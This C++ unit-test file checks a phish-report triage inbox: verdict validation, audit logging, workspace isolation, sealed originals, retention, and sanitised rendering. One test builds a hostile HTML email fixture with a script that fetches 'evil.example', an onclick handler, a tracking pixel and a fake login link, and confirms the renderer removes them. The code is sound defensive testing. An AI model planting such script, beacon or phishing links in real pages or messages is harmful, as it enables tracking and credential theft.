// The triage inbox (service/reporting/triage.h, report_rendering.h) on every
// store backend: verdicts on a report or a whole cluster are validated and
// audited, another workspace's reports and clusters behave as unknown, the
// original opens from its seal (audited) and is dropped past the retention
// period, and a reported message is rendered with nothing active or remote.
#include "service/reporting/triage.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <string>
#include <vector>

#include "service/reporting/report_rendering.h"
#include "service/reporting/reporting_fixture.h"

namespace phishdrill::service {
namespace {

constexpr std::int64_t kDay = 86400;

class TriageTest : public testing_support::ReportingFixture {
 protected:
  static constexpr std::int64_t kReportAt = kNow + 3600;

  // A real phish reported by `reporter` into `workspace_id` (Acme when 0); its report.
  Report reported(const std::string& message_id, const std::string& reporter = kAda,
                  std::int64_t at = kReportAt, std::int64_t workspace_id = 0) {
    const auto got = ingest(
        testing_support::attached_report(reporter, testing_support::phish_message(message_id)), at,
        {}, workspace_id);
    EXPECT_EQ(got.outcome, "triage");
    return only_report(got, workspace_id);
  }
};

TEST_P(TriageTest, DecideReportValidatesTheVerdictAndNote) {
  const Report r = reported("m1@paypa1-secure.example");
  for (const std::string verdict : {"", "malicious", "Threat", "none"}) {
    const auto refused = decide_report(*store_, caller(), kReportAt, r.id, {verdict, ""});
    ASSERT_FALSE(refused.has_value()) << verdict;
    EXPECT_EQ(refused.error().code, ErrorCode::kValidation);
    EXPECT_EQ(refused.error().field, "verdict");
  }
  for (const std::string& note :
       {std::string(2001, 'n'), std::string("two\nlines"), std::string("bad \xff utf-8")}) {
    const auto refused = decide_report(*store_, caller(), kReportAt, r.id, {"spam", note});
    ASSERT_FALSE(refused.has_value());
    EXPECT_EQ(refused.error().code, ErrorCode::kValidation);
    EXPECT_EQ(refused.error().field, "note");
  }
  EXPECT_TRUE(report(r.id).verdict.empty());
  EXPECT_TRUE(audit_actions().empty());

  const auto decided =
      decide_report(*store_, caller(), kReportAt + 50, r.id, {"threat", std::string(2000, 'n')});
  ASSERT_TRUE(decided.has_value()) << decided.error().message;
  EXPECT_EQ(decided->verdict, "threat");
  EXPECT_EQ(decided->verdict_by, 7);
  EXPECT_EQ(decided->verdict_at, kReportAt + 50);
  EXPECT_EQ(report(r.id).verdict, "threat");
  // One report: its cluster keeps no verdict of its own.
  EXPECT_TRUE(cluster(r.cluster_id).verdict.empty());
  const auto log = audit_log();
  ASSERT_EQ(log.size(), 1u);
  EXPECT_EQ(log[0].action, "report.verdict");
  EXPECT_EQ(log[0].resource_type, "report");
  EXPECT_EQ(log[0].resource_id, r.id);
  EXPECT_EQ(log[0].at, kReportAt + 50);
  EXPECT_NE(log[0].details_json.find(R"("verdict":"threat")"), std::string::npos);
}

TEST_P(TriageTest, DecideClusterDecidesEveryReportInIt) {
  const Report ada = reported("m1@paypa1-secure.example", kAda);
  const Report bob = reported("m2@paypa1-secure.example", kBob);
  ASSERT_EQ(ada.cluster_id, bob.cluster_id);
  const Report elsewhere = [&] {
    const auto got = ingest(testing_support::attached_report(
                                kAda, testing_support::phish_message(
                                          "x@other.example", "billing@other.example", "Invoice")),
                            kReportAt);
    return only_report(got);
  }();
  ASSERT_NE(elsewhere.cluster_id, ada.cluster_id);

  const auto refused = decide_cluster(*store_, caller(), kReportAt, ada.cluster_id, {"bad", ""});
  ASSERT_FALSE(refused.has_value());
  EXPECT_EQ(refused.error().field, "verdict");
  EXPECT_TRUE(audit_actions().empty());

  const auto decided =
      decide_cluster(*store_, caller(), kReportAt + 60, ada.cluster_id, {"spam", "newsletter"});
  ASSERT_TRUE(decided.has_value()) << decided.error().message;
  EXPECT_EQ(decided->verdict, "spam");
  EXPECT_EQ(decided->verdict_note, "newsletter");
  EXPECT_EQ(decided->report_count, 2);
  for (const auto id : {ada.id, bob.id}) {
    EXPECT_EQ(report(id).verdict, "spam") << id;
    EXPECT_EQ(report(id).verdict_note, "newsletter") << id;
    EXPECT_EQ(report(id).verdict_at, kReportAt + 60) << id;
  }
  EXPECT_TRUE(report(elsewhere.id).verdict.empty());
  const auto log = audit_log();
  ASSERT_EQ(log.size(), 1u);
  EXPECT_EQ(log[0].action, "report_cluster.verdict");
  EXPECT_EQ(log[0].resource_type, "report_cluster");
  EXPECT_EQ(log[0].resource_id, ada.cluster_id);
  EXPECT_NE(log[0].details_json.find(R"("reports":2)"), std::string::npos) << log[0].details_json;
}

TEST_P(TriageTest, AnotherWorkspacesReportsAndClustersAreUnknown) {
  const Report theirs = reported("m1@paypa1-secure.example", kAda, kReportAt, other_ws_);
  ASSERT_GT(theirs.id, 0);
  for (const std::int64_t id : {theirs.id, theirs.id + 1000}) {
    EXPECT_EQ(find_report(*store_, ws_, id).error().code, ErrorCode::kNotFound);
    EXPECT_EQ(decide_report(*store_, caller(), kReportAt, id, {"clean", ""}).error().code,
              ErrorCode::kNotFound);
    EXPECT_EQ(report_original(*store_, key_, caller(), kReportAt, id).error().code,
              ErrorCode::kNotFound);
    EXPECT_EQ(render_reported_message(*store_, key_, caller(), id).error().code,
              ErrorCode::kNotFound);
  }
  for (const std::int64_t id : {theirs.cluster_id, theirs.cluster_id + 1000}) {
    EXPECT_EQ(find_cluster(*store_, ws_, id).error().code, ErrorCode::kNotFound);
    EXPECT_EQ(decide_cluster(*store_, caller(), kReportAt, id, {"clean", ""}).error().code,
              ErrorCode::kNotFound);
  }
  EXPECT_TRUE(list_reports(*store_, ws_, {}, {})->items.empty());
  EXPECT_TRUE(list_clusters(*store_, ws_, {}, {})->items.empty());
  EXPECT_TRUE(audit_actions().empty());
  EXPECT_TRUE(audit_actions(other_ws_).empty());
  // Theirs is untouched, and theirs to see.
  EXPECT_TRUE(report(theirs.id, other_ws_).verdict.empty());
  EXPECT_TRUE(cluster(theirs.cluster_id, other_ws_).verdict.empty());
  EXPECT_TRUE(find_report(*store_, other_ws_, theirs.id).has_value());
}

TEST_P(TriageTest, TheOriginalOpensFromItsSealAndEachDownloadIsAudited) {
  const std::string phish = testing_support::phish_message("m1@paypa1-secure.example");
  const auto got = ingest(testing_support::attached_report(kAda, phish), kReportAt);
  const Report r = only_report(got);
  const auto original = report_original(*store_, key_, caller(), kReportAt + 5, r.id);
  ASSERT_TRUE(original.has_value()) << original.error().message;
  EXPECT_EQ(*original, phish);
  const auto log = audit_log();
  ASSERT_EQ(log.size(), 1u);
  EXPECT_EQ(log[0].action, "report.download");
  EXPECT_EQ(log[0].resource_id, r.id);
  EXPECT_EQ(log[0].at, kReportAt + 5);

  // Another installation's key cannot open it.
  SecretKey other_key{};
  other_key.fill(7);
  const auto unopenable = report_original(*store_, other_key, caller(), kReportAt, r.id);
  ASSERT_FALSE(unopenable.has_value());
  EXPECT_EQ(unopenable.error().code, ErrorCode::kInternal);
}

TEST_P(TriageTest, OriginalsAreDroppedPastTheRetentionPeriod) {
  const Report old = reported("old@paypa1-secure.example", kAda, kNow - 40 * kDay);
  const Report edge = reported("edge@paypa1-secure.example", kAda, kNow - 30 * kDay);
  const Report fresh = reported("new@paypa1-secure.example", kAda, kNow - kDay);
  const auto dropped = drop_expired_originals(*store_, kNow, 30);
  ASSERT_TRUE(dropped.has_value()) << dropped.error().message;
  EXPECT_EQ(*dropped, 1);
  EXPECT_FALSE(report(old.id).has_raw);
  EXPECT_EQ(report_original(*store_, key_, caller(), kNow, old.id).error().code,
            ErrorCode::kNotFound);
  EXPECT_EQ(report(old.id).subject, "Your account is suspended");  // the report itself stays
  for (const auto id : {edge.id, fresh.id}) {
    EXPECT_TRUE(report(id).has_raw) << id;
    EXPECT_TRUE(report_original(*store_, key_, caller(), kNow, id).has_value()) << id;
  }
  // Nothing more to drop.
  EXPECT_EQ(drop_expired_originals(*store_, kNow, 30).value_or(-1), 0);
}

TEST_P(TriageTest, ARenderedMessageRunsNothingAndLoadsNothing) {
  const std::string hostile = testing_support::crlf(
      "From: attacker@evil.example\nSubject: look\nMessage-ID: <h1@evil.example>\n"
      "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
      "<html><body><p onclick=\"steal()\">Hello <b>there</b></p>"
      "<script>fetch('https://evil.example/seen')</script>"
      "<img src=\"https://evil.example/pixel.gif\">"
      "<a href=\"https://evil.example/login\">sign in</a></body></html>\n");
  const Report r = only_report(ingest(testing_support::attached_report(kAda, hostile), kReportAt));
  const auto html = render_reported_message(*store_, key_, caller(), r.id);
  ASSERT_TRUE(html.has_value()) << html.error().message;
  EXPECT_NE(html->find("<b>there</b>"), std::string::npos) << *html;
  EXPECT_EQ(html->find("<script"), std::string::npos) << *html;
  EXPECT_EQ(html->find("onclick"), std::string::npos) << *html;
  EXPECT_EQ(html->find("evil.example/pixel.gif"), std::string::npos) << *html;
  EXPECT_EQ(html->find("https://evil.example/login"), std::string::npos) << *html;

  // A text message is shown as text, escaped.
  const std::string text = testing_support::crlf(
      "From: attacker@evil.example\nSubject: plain\nMessage-ID: <t1@evil.example>\n"
      "Content-Type: text/plain; charset=utf-8\n\nClick <a href=x>here</a> & win\n");
  const Report t = only_report(ingest(testing_support::attached_report(kBob, text), kReportAt));
  const auto shown = render_reported_message(*store_, key_, caller(), t.id);
  ASSERT_TRUE(shown.has_value()) << shown.error().message;
  EXPECT_NE(shown->find("<pre"), std::string::npos) << *shown;
  EXPECT_NE(shown->find("Click &lt;a href=x&gt;here&lt;/a&gt; &amp; win"), std::string::npos)
      << *shown;
}

INSTANTIATE_TEST_SUITE_P(Backends, TriageTest,
                         ::testing::ValuesIn(testing_support::store_backends()),
                         testing_support::backend_name);

}  // namespace
}  // namespace phishdrill::service
